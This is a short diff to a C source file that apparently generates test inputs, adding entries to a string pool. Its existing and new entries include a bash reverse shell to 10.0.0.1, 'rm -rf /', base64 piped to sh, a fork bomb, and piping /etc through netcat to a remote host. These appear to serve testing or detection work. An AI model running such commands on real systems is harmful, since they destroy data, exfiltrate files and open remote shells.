@@ -75,6 +75,7 @@ static const char *pick(void)
 		"/inet/tcp/0/127.0.0.1/4444", "/memfd:x (deleted)", "[kworker/0:1]",
 		"rm -rf --no-preserve-root /", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
 		"python3 -c 'import socket,subprocess,os'", "echo aGVsbG8= | base64 -d | sh",
+		"7z\ta -so /etc | nc 10.0.0.1 9", "f()\n{ f|f& };f", "nc\t-lp 9 > loot",
 	};
 
 	if (!npool || rnd() % 4 == 0)
